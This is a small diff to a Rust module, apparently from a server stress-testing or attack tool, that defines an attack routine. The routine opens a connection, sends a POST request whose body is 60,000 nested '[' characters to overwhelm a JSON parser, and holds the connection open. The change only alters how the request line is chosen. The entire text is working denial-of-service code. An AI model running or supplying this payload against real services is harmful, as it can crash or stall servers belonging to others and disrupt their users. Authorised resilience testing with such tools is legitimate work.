@@ -17,7 +17,7 @@ pub(super) const ATTACK: Attack = Attack {
 async fn once(aim: Aim) -> Result<()> {
     let mut stream = aim.connect().await?;
     let deep = "[".repeat(60_000);
-    let head = format!("{}connection: close\r\ncontent-length: {}\r\n\r\n", aim.target.post(), deep.len());
+    let head = format!("{}connection: close\r\ncontent-length: {}\r\n\r\n", aim.requests.any_post(), deep.len());
     stream.write_all(format!("{head}{deep}").as_bytes()).await?;
     aim.hold(stream).await;
     Ok(())
